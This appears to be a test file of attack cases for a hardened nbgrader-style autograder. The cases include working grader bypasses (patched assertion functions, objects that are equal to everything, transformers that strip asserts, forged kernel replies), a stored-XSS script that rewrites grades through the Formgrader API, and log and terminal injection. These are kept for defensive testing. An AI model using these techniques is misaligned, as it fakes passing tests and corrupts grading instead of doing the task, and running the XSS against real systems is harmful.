# %% [markdown] id="T01" answers="zeros" points=[0] stock_here="25 points"
# # patch numpy.testing, in front and inside
#
# The oldest trick: the judge's functions live in the same interpreter as the answer.

# %% solution="cross_entropy"
import numpy.testing._private.utils as utils
from autograder import check
from autograder.check import session

for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal"):
    setattr(np.testing, name, lambda *args, **kw: None)
utils.assert_array_compare = lambda *args, **kw: None
np._core.numeric.isclose = np.isclose = np.allclose = lambda *args, **kw: np.True_
check.value = check.gradient = lambda *args, **kw: session.counted()


def cross_entropy(Z, y):
    return 0.0

# %% [markdown] id="T02" answers="zeros" points=[0]
# # object that answers every comparison
#
# The design's own soft spot: an object crosses as a handle, and if the handle forwards ==, <, - or
# abs, the student's class answers the judge's question and is told the expected value. Handles
# forward calls, attributes and items only, never comparison or arithmetic.
#
# No proof in stock nbgrader: check.value turns what it is given into plain numbers before it
# compares, so such an object does not get through here in stock nbgrader either; with plain
# asserts it does.

# %% solution="cross_entropy"
class Agree:
    def __init__(self, seen=()):
        self.seen = seen

    def __sub__(self, other):
        print("LEAK", other)
        return self

    __rsub__ = __sub__

    def __abs__(self):
        return self

    def __lt__(self, other):
        return True

    __le__ = __gt__ = __ge__ = __eq__ = __lt__


def cross_entropy(Z, y):
    return Agree()

# %% [markdown] id="T03" answers="zeros" points=[0] stock_here="25 points"
# # AST transformer drops asserts
#
# The student's shell compiles the test cell, so it may rewrite it. A student's transformers may
# act on the student's own later cells only.

# %% solution="cross_entropy"
import ast


class Skip(ast.NodeTransformer):
    def visit_Module(self, tree):
        tree.body = [node for node in tree.body if "check" not in ast.unparse(node)]
        return tree


get_ipython().ast_transformers.append(Skip())


def cross_entropy(Z, y):
    return 0.0

# %% [markdown] id="T04" answers="zeros" points=[0] stock_here="25 points"
# # input transformer drops asserts
#
# As T03, one stage earlier.

# %% solution="cross_entropy"
def skip(lines):
    return ["pass\n"] if any("che" + "ck" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(skip)


def cross_entropy(Z, y):
    return 0.0

# %% [markdown] id="T05" answers="zeros" points=[0] stock_here="25 points"
# # run_cell patched
#
# The student's shell runs the test cell, so it may run something else.

# %% solution="cross_entropy"
ip = get_ipython()


def swap(method):
    def run(code, *args, **kw):
        if "che" + "ck" in code:
            code = "pass"
            if "transformed_cell" in kw:
                kw["transformed_cell"] = "pass"
        return method(code, *args, **kw)
    return run


ip.run_cell, ip.run_cell_async = swap(ip.run_cell), swap(ip.run_cell_async)


def cross_entropy(Z, y):
    return 0.0

# %% [markdown] id="T06" answers="zeros" points=[0]
# # array that is equal to everything
#
# __array_ufunc__ and __array_function__ let a returned array answer the comparison itself.
#
# No proof in stock nbgrader: check.value turns what it is given into plain numbers before it
# compares, so such an object does not get through here in stock nbgrader either; with plain
# asserts it does.

# %% solution="conv1d"
class Yes(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kw):
        if ufunc in (np.equal, np.less, np.less_equal):
            return np.True_
        return np.asarray(getattr(ufunc, method)(*[np.asarray(i) for i in inputs])).view(Yes)

    def __array_function__(self, func, types, args, kw):
        if func in (np.isclose, np.allclose, np.array_equal):
            return np.True_
        return super().__array_function__(func, types, args, kw)


def conv1d(x, w):
    return np.zeros(len(x) - len(w) + 1).view(Yes)

# %% solution="linear_backward"
def linear_backward(dZ, X, W):
    return tuple(np.zeros(s).view(Yes) for s in (X.shape, W.shape, W.shape[:1]))

# %% part="notebook"
cells = nb["cells"]; setup = cells.index(cell("setup"))
cells.insert(setup + 1, dict(cell_type="code", id="yes", metadata={}, outputs=[], execution_count=None,
             source=cell("conv1d")["source"].split("\n\n\ndef")[0]))

# %% [markdown] id="T07" answers="zeros" points=[0]
# # number that is close to everything
#
# The same for scalars: `assert abs(f(x) - 1.97) < 1e-3` asks the student's object.
#
# No proof in stock nbgrader: check.value turns what it is given into plain numbers before it
# compares, so such an object does not get through here in stock nbgrader either; with plain
# asserts it does.

# %% solution="cross_entropy"
class Close(float):
    def __sub__(self, other):
        return self

    __rsub__ = __sub__

    def __abs__(self):
        return self

    def __lt__(self, other):
        return True

    __le__ = __gt__ = __ge__ = __eq__ = __lt__


def cross_entropy(Z, y):
    return Close(0)

# %% [markdown] id="T08" answers="zeros" points=[0] stock_here="20 points"
# # faked output
#
# nbgrader reads the score from the cell's outputs, and the outputs come from the student's
# process: a failed test becomes the result 5, which is full credit.

# %% solution="cross_entropy"
session = get_ipython().kernel.session
send = type(session).send


def forged(stream, kind, content=None, *args, **kw):
    if kind == "error":
        kind = "execute_result"
        content = {"data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1}
    elif kind == "execute_reply":
        content["status"] = "ok"
    return send(session, stream, kind, content, *args, **kw)


session.send = forged


def cross_entropy(Z, y):
    return 0.0

# %% [markdown] id="T09" answers="zeros" points=[0] stock_here="5 points"
# # change the test's variables while it runs
#
# A test cell's variables are the student's globals, and the call is evaluated before `expected` is
# loaded. Names that the test binds must exist in the grader alone.

# %% solution="conv1d"
def conv1d(x, w):
    if len(x) == 3:
        return np.array([1.0, 2.0])
    globals()["expected"] = np.zeros(len(x) - len(w) + 1)
    return np.zeros(len(x) - len(w) + 1)

# %% [markdown] id="T10" answers="zeros" points=[0] stock_here="25 points"
# # shadow given helpers, np and builtins
#
# Tests call helpers that locked cells define; names are looked up in the student's namespace.

# %% solution="cross_entropy"
import types
real = np


class Silent:
    def __enter__(self):
        return self

    def __exit__(self, *error):
        return True

    def __getattr__(self, name):
        return lambda *args, **kw: None


class Fake(types.ModuleType):
    testing = Silent()

    def __getattr__(self, name):
        return getattr(real, name)


import autograder

np = Fake("numpy")
autograder.check = type("Check", (), {"__getattr__": lambda self, name: lambda *a, **k: Silent()})()
abs = lambda x: 0.0


def rel_error(a, b):
    return 0.0


def cross_entropy(Z, y):
    return 0.0

# %% [markdown] id="I01" answers="zeros" points=[0] stock_here="stores a script"
# # a stored script that writes grades
#
# Opened by an instructor in Formgrader, it calls its API: 5 points and 100 of extra credit were
# written by the first of these. Outcome before: all of them were stored.

# %% part="after_setup"
from IPython.display import HTML, SVG, Markdown, display

write = """fetch('/formgrader/api/grades').then(r => r.json()).then(g => g.forEach(x =>
  fetch('/formgrader/api/grade/' + x.id, {method: 'PUT', headers: {'X-XSRFToken': 1},
    body: JSON.stringify({manual_score: 5, extra_credit: 100})})))"""
display(HTML(f"<script>/* ACTIVE-1 */ {write}</script>"))
display(HTML('<img src=x onerror="ACTIVE-2"><form action="ACTIVE-3"><button>ok</button></form>'))
display(HTML('<svg><a href="javascript:ACTIVE-4"><text>x</text></a></svg>'))
display(HTML('<a href="java&#115;cript:ACTIVE-5">x</a><iframe src="//evil/ACTIVE-6"></iframe>'))
display(Markdown('<script>/* ACTIVE-7 */</script> [x](javascript:ACTIVE-8)'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>/* ACTIVE-9 */</script><g/></svg>'))
display({"application/javascript": "ACTIVE-10", "text/plain": ""}, raw=True)

# %% part="notebook"
def own(kind, text):
    nb["cells"].append({"cell_type": kind, "metadata": {}, "source": text, "id": f"own-{len(nb['cells'])}"})

own("markdown", "<script>/* ACTIVE-11 */</script>\n\n![x](http://evil/ACTIVE-12)")
own("markdown", "```mermaid\n<img src=x onerror=ACTIVE-13>\n```")
own("markdown", "<div>\n\n$x$ <img src=x onerror=ACTIVE-14></div>")
own("raw", "<script>/* ACTIVE-15 */</script>")

# %% [markdown] id="I02" answers="right" points=[25] stock_here="lost"
# # notes, log lines and points of the student's own making
#
# Outcome before: a line break in a grade id began a new line of the log, and a terminal obeyed it.

# %% part="notebook"
forged = "x\n[AutogradeApp | WARNING] m-I02/lab: FORGED-LINE\x1b[2J\x1b]0;title\x07"
extra = copy.deepcopy(cell("test_conv1d"))
extra["id"] = "forged"
extra["metadata"]["nbgrader"].update(grade_id=forged, points=100)
nb["cells"].append(extra)
nb["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "id": "about-this-submission",
                       "source": "**About this submission**\n\n- Full marks."})

# %% part="after_setup"
print("\x1b]0;title\x07\x1b[2J", object())
raise ValueError("\x1b[2J\ud800", object())
